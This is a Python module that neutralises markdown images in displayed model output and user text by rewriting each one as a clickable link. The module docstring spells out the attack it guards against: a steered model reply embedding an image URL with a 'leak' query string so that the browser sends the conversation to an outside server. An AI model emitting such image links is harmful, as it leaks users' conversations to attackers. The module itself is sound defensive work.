"""Markdown that never makes the viewer's browser fetch anything.

Model output, thinking, provider errors and what people type are shown as markdown. An image
in markdown (``![alt](http://host/x.png?leak=...)``, or ``![alt][ref]`` with ``[ref]: url``)
makes the browser request its URL as soon as it is drawn: anyone who can steer a model's reply
could send the conversation to a server of their choosing. So every image becomes a plain
link (``[🖼 alt](url)``): nothing is fetched until a person clicks, and the rest of the
markdown is kept. HTML is never enabled where this text is drawn (Streamlit escapes it).

The rule is deliberately blunt: every ``![`` becomes ``[🖼 `` wherever it stands, code
included, because a smarter parser that misjudged a code span would let an image through.
"""

from __future__ import annotations

import re

IMAGE_MARK = "🖼"
_IMAGE_OPEN = re.compile(r"!\[(\s*\])?")


def _as_link(match: re.Match[str]) -> str:
    empty_alt = match.group(1) is not None
    return f"[{IMAGE_MARK} image]" if empty_alt else f"[{IMAGE_MARK} "


def safe_markdown(text: str | None) -> str:
    """``text`` with every markdown image turned into a plain link (see the module docstring)."""
    if not text:
        return text or ""
    # "!" then "[": CommonMark (and Streamlit's renderer) draws an image only when adjacent
    # until none is left: "!![x](u)" becomes "![🖼 x](u)" first, an image again
    while _IMAGE_OPEN.search(text):
        text = _IMAGE_OPEN.sub(_as_link, text)
    return text


def has_image(text: str) -> bool:
    """Whether ``text`` holds anything a markdown renderer would draw as an image."""
    return bool(_IMAGE_OPEN.search(text or ""))
